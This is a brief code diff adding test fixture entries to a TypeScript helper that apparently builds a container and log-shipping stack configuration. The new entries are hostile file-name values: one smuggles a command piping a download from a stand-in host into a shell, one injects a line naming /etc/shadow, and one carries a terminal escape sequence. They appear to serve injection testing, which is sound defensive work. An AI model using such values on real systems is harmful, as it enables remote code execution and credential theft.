@@ -44,6 +44,9 @@ export function exportedStack({ relay = false, ca = "PEM\n" } = {}): string {
             // What a container says of itself is no more than that; LXD's line comes last.
             { ca: "another", container: "siem", uuid: "u-forged" },
             { file: "/etc/filebeat/filebeat.yml", sha256: "aa" },
+            { file: "/etc/x; curl evil.example.org | sh", sha256: "aa" },
+            { file: "/etc/x\nsiem /etc/shadow", sha256: "aa" },
+            { file: "/etc/\u001b[2Jx", sha256: "aa" },
             { container: "dhis", uuid: "u-dhis" },
           ),
         ),
